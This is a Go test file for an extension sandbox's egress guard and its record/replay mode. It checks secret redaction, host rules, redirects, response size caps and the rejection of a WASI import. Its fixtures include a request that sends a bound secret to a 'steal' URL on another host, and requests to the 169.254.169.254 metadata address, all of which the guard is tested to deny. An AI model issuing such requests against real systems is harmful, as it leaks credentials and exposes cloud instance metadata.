package localrun

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/forgehq/forge/internal/egress"
	"github.com/forgehq/forge/internal/manifest"
)

// TestRecordReplay records exchanges through the guard and replays them
// with no network. The secret, which has characters URL escaping changes,
// is sent as written in a header, URL-escaped in a query and in a JSON
// body; it is in the recording in none of its encodings.
func TestRecordReplay(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		body, _ := io.ReadAll(r.Body)
		_, _ = io.WriteString(w, "hello from "+r.URL.Path+" with "+r.URL.Query().Get("key")+" "+string(body))
	}))
	defer srv.Close()
	rule, err := manifest.ParseEgress(srv.URL + "/api/")
	if err != nil {
		t.Fatal(err)
	}
	const secret = "sk/live+12=345"
	host, err := manifest.ParseHost("127.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	bindings := []egress.SecretBinding{{Name: "KEY", Value: secret, Hosts: []manifest.Host{host}}}
	redact := egress.NewRedactor(bindings)
	file := filepath.Join(t.TempDir(), "rec.json")
	rec := NewRecorder(file, redact, 1<<20)
	live, err := egress.NewGuard(egress.GuardConfig{Rules: []manifest.Egress{rule}, AllowLoopback: true, Secrets: bindings, WrapTransport: rec.Wrap})
	if err != nil {
		t.Fatal(err)
	}
	target := srv.URL + "/api/items?key=" + url.QueryEscape(secret)
	body := `{"token":"` + secret + `"}`
	got, err := send(live, target, body)
	if err != nil {
		t.Fatal(err)
	}
	if got != "hello from /api/items with "+secret+" "+body {
		t.Fatalf("live body %q", got)
	}
	if err := rec.Save(); err != nil {
		t.Fatal(err)
	}
	data, _ := os.ReadFile(file)
	for _, form := range secretForms(secret) {
		if strings.Contains(string(data), form) {
			t.Errorf("the recording holds the secret as %q:\n%s", form, data)
		}
	}
	if strings.Contains(string(data), "Bearer") {
		t.Errorf("the recording holds request headers:\n%s", data)
	}

	rp, err := LoadReplay(file, redact)
	if err != nil {
		t.Fatal(err)
	}
	replay, err := egress.NewGuard(egress.GuardConfig{Rules: []manifest.Egress{rule}, AllowLoopback: true, Secrets: bindings, Transport: rp})
	if err != nil {
		t.Fatal(err)
	}
	srv.Close() // replay needs no network
	replayed, err := send(replay, target, body)
	if err != nil {
		t.Fatal(err)
	}
	if want := "hello from /api/items with [secret KEY] " + `{"token":"[secret KEY]"}`; replayed != want {
		t.Fatalf("replayed body %q, want %q", replayed, want)
	}
	// Each exchange answers once; anything else is not recorded.
	if _, err := send(replay, target, body); !errors.Is(err, ErrNotRecorded) {
		t.Fatalf("second replay: %v", err)
	} else if strings.Contains(err.Error(), "key=") {
		t.Errorf("the error shows the query: %v", err)
	}
	// The manifest's rules still apply with no network.
	if _, err := send(replay, "http://169.254.169.254/latest/", ""); !errors.Is(err, egress.ErrDenied) {
		t.Fatalf("undeclared host on replay: %v", err)
	}
}

// TestReplayChecksLikeLive: under --replay the guard's checks beyond the
// URL rules apply as in a live run: a secret sent to a host it is not bound
// to is refused, and so is a recorded redirect to an undeclared address,
// and a recorded response over the size cap.
func TestReplayChecksLikeLive(t *testing.T) {
	const secret = "sk/live+12=345"
	api, _ := manifest.ParseHost("api.example.com")
	bindings := []egress.SecretBinding{{Name: "KEY", Value: secret, Hosts: []manifest.Host{api}}}
	var rules []manifest.Egress
	for _, r := range []string{"https://api.example.com/", "https://other.example.com/"} {
		e, err := manifest.ParseEgress(r)
		if err != nil {
			t.Fatal(err)
		}
		rules = append(rules, e)
	}
	file := filepath.Join(t.TempDir(), "rec.json")
	recording := `{"version": 1, "exchanges": [
		{"method": "GET", "url": "https://other.example.com/steal?k=[secret KEY]", "status": 200, "body": "b2s="},
		{"method": "GET", "url": "https://api.example.com/hop", "status": 302, "header": {"Location": ["http://169.254.169.254/latest/"]}, "body": ""},
		{"method": "GET", "url": "https://api.example.com/big", "status": 200, "body": "` + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("y", 2048))) + `"}
	]}`
	if err := os.WriteFile(file, []byte(recording), 0o600); err != nil {
		t.Fatal(err)
	}
	rp, err := LoadReplay(file, egress.NewRedactor(bindings))
	if err != nil {
		t.Fatal(err)
	}
	for name, cfg := range map[string]egress.GuardConfig{
		"live":   {Rules: rules, Secrets: bindings, MaxResponseBytes: 1024, Transport: refuseTransport{t}},
		"replay": {Rules: rules, Secrets: bindings, MaxResponseBytes: 1024, Transport: rp},
	} {
		g, err := egress.NewGuard(cfg)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := send(g, "https://other.example.com/steal?k="+url.QueryEscape(secret), ""); !errors.Is(err, egress.ErrDenied) {
			t.Errorf("%s: secret to an unbound host: %v, want denied", name, err)
		}
		if name == "live" {
			continue
		}
		if _, err := send(g, "https://api.example.com/hop", ""); !errors.Is(err, egress.ErrDenied) {
			t.Errorf("%s: redirect to the metadata address: %v, want denied", name, err)
		}
		if _, err := send(g, "https://api.example.com/big", ""); !errors.Is(err, egress.ErrResponseTooLarge) {
			t.Errorf("%s: response over the cap: %v, want too large", name, err)
		}
	}
}

// refuseTransport fails the test if the guard sends anything.
type refuseTransport struct{ t *testing.T }

func (r refuseTransport) RoundTrip(req *http.Request) (*http.Response, error) {
	r.t.Errorf("the guard sent %s", req.URL)
	return nil, errors.New("refused")
}

// send sends a request (a POST with body, if any) with the secret-free
// Authorization header "Bearer x" and returns the response body.
func send(c *egress.Guard, target, body string) (string, error) {
	method, rd := http.MethodGet, io.Reader(nil)
	if body != "" {
		method, rd = http.MethodPost, strings.NewReader(body)
	}
	req, _ := http.NewRequestWithContext(context.Background(), method, target, rd)
	req.Header.Set("Authorization", "Bearer x")
	resp, err := c.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return string(b), err
}

// secretForms are the encodings of v that must appear nowhere.
func secretForms(v string) []string {
	j, _ := json.Marshal(v)
	return []string{
		v, url.QueryEscape(v), url.PathEscape(v), strings.ToLower(url.QueryEscape(v)),
		string(j[1 : len(j)-1]), hex.EncodeToString([]byte(v)),
		base64.StdEncoding.EncodeToString([]byte(v)), base64.RawURLEncoding.EncodeToString([]byte(v)),
	}
}

func TestLoadReplayRejectsBadFiles(t *testing.T) {
	dir := t.TempDir()
	for name, body := range map[string]string{
		"garbage.json": "{not json",
		"version.json": `{"version": 9, "exchanges": []}`,
		"unknown.json": `{"version": 1, "exchanges": [], "extra": 1}`,
	} {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := LoadReplay(p, nil); err == nil {
			t.Errorf("%s accepted", name)
		}
	}
	if _, err := LoadReplay(filepath.Join(dir, "missing.json"), nil); err == nil {
		t.Error("missing file accepted")
	}
}

func TestAssignmentsAndSecretsFile(t *testing.T) {
	m, err := ParseAssignments("secret", []string{"A=1", "B=x=y", "C="})
	if err != nil || m["A"] != "1" || m["B"] != "x=y" || m["C"] != "" {
		t.Fatalf("%v %v", m, err)
	}
	if _, err := ParseAssignments("secret", []string{"novalue"}); err == nil {
		t.Fatal("missing = accepted")
	}
	p := filepath.Join(t.TempDir(), ".env")
	if err := os.WriteFile(p, []byte("# comment\nTOKEN = \"abc def\"\n\nOTHER='x'\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	s, err := ReadSecretsFile(p)
	if err != nil || s["TOKEN"] != "abc def" || s["OTHER"] != "x" {
		t.Fatalf("%v %v", s, err)
	}
	if err := os.WriteFile(p, []byte("ok=1\nbroken line\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadSecretsFile(p); err == nil || !strings.Contains(err.Error(), ":2:") {
		t.Fatalf("want line 2 in %v", err)
	}
}

// TestLoadRefusedModuleIsInputError: a module the sandbox refuses is bad
// input (exit 2), like an unreadable manifest.
func TestLoadRefusedModuleIsInputError(t *testing.T) {
	dir := t.TempDir()
	manifest := "apiVersion: forge.dev/v1\nname: corrupt\nversion: 1.0.0\ndescription: x\nmodule:\n  wasm: module.wasm\ntriggers:\n  - name: daily\n    schedule:\n      cron: \"0 9 * * *\"\n"
	if err := os.WriteFile(filepath.Join(dir, "extension.yaml"), []byte(manifest), 0o644); err != nil {
		t.Fatal(err)
	}
	for name, module := range map[string][]byte{
		"truncated":      []byte("\x00as"),
		"forbidden-wasi": forbiddenImportModule(),
	} {
		if err := os.WriteFile(filepath.Join(dir, "module.wasm"), module, 0o644); err != nil {
			t.Fatal(err)
		}
		_, err := Load(t.Context(), Options{Path: dir, CacheDir: filepath.Join(dir, "cache")})
		var ie *InputError
		if !errors.As(err, &ie) {
			t.Errorf("%s: %v is not an InputError", name, err)
		}
	}
}

// forbiddenImportModule is a module importing wasi_snapshot_preview1.path_open.
func forbiddenImportModule() []byte {
	mod := []byte{0, 'a', 's', 'm', 1, 0, 0, 0}
	// type section: one type (i32 x9) -> i32, the signature of path_open
	types := []byte{1, 0x60, 9, 0x7f, 0x7f, 0x7f, 0x7f, 0x7f, 0x7e, 0x7e, 0x7f, 0x7f, 1, 0x7f}
	mod = append(mod, 1, byte(len(types)))
	mod = append(mod, types...)
	imp := []byte{1, 22}
	imp = append(imp, "wasi_snapshot_preview1"...)
	imp = append(imp, 9)
	imp = append(imp, "path_open"...)
	imp = append(imp, 0, 0)
	mod = append(mod, 2, byte(len(imp)))
	return append(mod, imp...)
}
